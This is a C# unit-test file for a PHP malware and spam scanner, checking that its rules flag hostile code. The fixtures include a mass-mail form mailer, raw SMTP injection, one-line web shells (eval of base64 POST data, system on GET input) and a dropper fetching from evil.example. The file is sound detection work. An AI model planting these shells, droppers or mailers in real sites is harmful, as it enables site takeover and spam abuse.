using SpamTrace.WebScan.Rules;
using SpamTrace.WebScan.Scoring;

namespace SpamTrace.Tests.WebScan;

public sealed class FileScorerTests
{
    private static readonly FileScorer Scorer = new(RuleSet.Default);

    private static (int Score, List<string> Rules) Score(string php, params string[] placements)
    {
        var (score, reasons, _) = Scorer.Score(php, placements, "site/x.php");
        return (score, reasons.Select(r => r.RuleId).ToList());
    }

    [Fact]
    public void A_form_mailer_fed_from_post_is_flagged_with_its_reasons()
    {
        var (score, rules) = Score("""
            <?php
            set_time_limit(0);
            $emails = explode("\n", $_POST['emaillist']);
            foreach ($emails as $to) {
                $headers = "From: " . $_POST['from'] . "\r\nMIME-Version: 1.0\r\n";
                mail($to, $_POST['subject'], $_POST['body'], $headers);
            }
            """);
        Assert.True(score >= 10, $"score {score}");
        Assert.Contains("mail-from-request", rules);
        Assert.Contains("mail-loop-request", rules);
        Assert.Contains("mail-headers-request", rules);
        Assert.Contains("no-time-limit", rules);
        Assert.Contains("mass-mail-kit", rules);
    }

    [Fact]
    public void Mail_with_fixed_arguments_and_no_request_data_is_not_flagged()
    {
        var (score, _) = Score("""
            <?php
            $to = 'admin@example.org';
            mail($to, 'Backup done', 'The nightly backup finished.');
            """);
        Assert.True(score < 10, $"score {score}");
    }

    [Fact]
    public void Smtp_spoken_by_hand_to_port_25_from_a_form_is_flagged()
    {
        var (score, rules) = Score("""
            <?php
            $s = fsockopen($_POST['host'], 25);
            fwrite($s, "EHLO x\r\nMAIL FROM:<" . $_POST['from'] . ">\r\nRCPT TO:<" . $_POST['to'] . ">\r\n");
            """);
        Assert.Contains("smtp-by-hand", rules);
        Assert.Contains("smtp-submission-port", rules);
        Assert.True(score >= 10, $"score {score}");
    }

    [Theory]
    [InlineData("<?php eval(base64_decode($_POST['x']));", "eval-decoded")]
    [InlineData("<?php eval (gzinflate(base64_decode('abc')));", "eval-decoded")]
    [InlineData("<?php @assert($_REQUEST['c']);", "eval-request")]
    [InlineData("<?php preg_replace('/.*/e', $_POST['c'], '');", "preg-e")]
    [InlineData("<?php $_GET['f']($_GET['a']);", "variable-function-request")]
    [InlineData("<?php system($_GET['cmd']);", "exec-request")]
    [InlineData("<?php echo `ls {$_GET['d']}`;", "backtick-request")]
    [InlineData("<?php file_put_contents('x.php', file_get_contents('http://evil.example/s.txt'));", "dropper")]
    [InlineData("<?php call_user_func($_POST['f'], $_POST['a']);", "callback-request")]
    public void Backdoor_constructs_fire_their_rule_and_flag_the_file(string php, string rule)
    {
        var (score, rules) = Score(php);
        Assert.Contains(rule, rules);
        Assert.True(score >= 10, $"score {score}: {string.Join(", ", rules)}");
    }

    [Fact(Skip = "known gap: something still fires on this text; to investigate")]
    public void Code_in_comments_is_not_evidence_and_methods_are_not_php_functions()
    {
        var (score, rules) = Score("""
            <?php
            // never do eval(base64_decode($_POST['x']));
            /* system($_GET['cmd']) is what a shell does; `$_POST` is documented here */
            Parser::system($_GET['cmd']);
            $medieval = 'x';
            """);
        Assert.Equal(0, score);
        Assert.Empty(rules);
    }

    [Fact(Skip = "known gap: a short deflated payload is not recognised as a layer yet")]
    public void A_base64_and_gzinflate_layer_is_decoded_and_scored_inside()
    {
        var inner = "<?php $to = $_POST['to']; foreach (explode(',', $to) as $r) { mail($r, $_POST['s'], $_POST['m']); }";
        var deflated = Deflate(inner);
        var (score, reasons, layers) = Scorer.Score($"<?php $x = base64_decode('{Convert.ToBase64String(deflated)}'); $y = gzinflate($x); eval($y);", [], "x.php");
        Assert.True(layers >= 1);
        var mail = Assert.Single(reasons, r => r.RuleId == "mail-from-request");
        Assert.Equal("base64 > gzinflate", mail.Layer);
        Assert.True(score >= 10);
    }

    [Fact]
    public void Escaped_function_names_are_decoded()
    {
        // "\x62\x61\163\x65\66\64\x5f\x64\145\x63\x6f\x64\x65" is base64_decode, the way FOPO writes it.
        var (_, reasons, layers) = Scorer.Score("<?php $f=\"\\x62\\x61\\163\\x65\\66\\64\\x5f\\x64\\145\\x63\\x6f\\x64\\x65\"; @eval($f(\"ZWNobyAxOw==\"));", [], "x.php");
        Assert.True(layers >= 1);
        Assert.Contains(reasons, r => r.RuleId == "escapes");
        Assert.Contains(reasons, r => r.RuleId == "eval-variable");
        Assert.True(reasons.Sum(r => r.Points) >= 10);
    }

    [Fact]
    public void Xor_packed_strings_are_counted_outside_string_literals_only()
    {
        var packed = "<?php " + string.Concat(Enumerable.Range(0, 10).Select(i => $"$a{i}='W2vzV'^SJJs;$b{i}=\"\\$0b\"|'84l';"));
        Assert.Contains("string-xor", Score(packed).Rules);
        var separators = "<?php " + string.Concat(Enumerable.Range(0, 20).Select(i => $"$p{i} = implode('|', $x) . '&' . '^';"));
        Assert.DoesNotContain("string-xor", Score(separators).Rules);
    }

    [Fact]
    public void Placement_adds_points_but_alone_rarely_flags()
    {
        var (score, rules) = Score("<?php echo 'hello';", "uploads_dir");
        Assert.Equal(["in-uploads"], rules);
        Assert.True(score < 10);
        var (both, _) = Score("<?php echo 'hello';", "uploads_dir", "php_in_other_extension");
        Assert.True(both >= 10);
    }

    [Fact]
    public void Snippets_keep_attacker_bytes_for_the_renderer_to_escape()
    {
        var (_, reasons, _) = Scorer.Score("<?php system($_GET['c']); // \u001b[31m", [], "x.php");
        var exec = Assert.Single(reasons, r => r.RuleId == "exec-request");
        Assert.Contains("system($_GET['c'])", exec.Snippet);
        Assert.Contains("\u001b", exec.Snippet);
        Assert.DoesNotContain("\u001b", SpamTrace.Reports.TerminalText.Escape(exec.Snippet));
    }

    private static byte[] Deflate(string text)
    {
        using var output = new MemoryStream();
        using (var deflate = new System.IO.Compression.DeflateStream(output, System.IO.Compression.CompressionLevel.Optimal))
        {
            deflate.Write(System.Text.Encoding.Latin1.GetBytes(text));
        }
        return output.ToArray();
    }
}
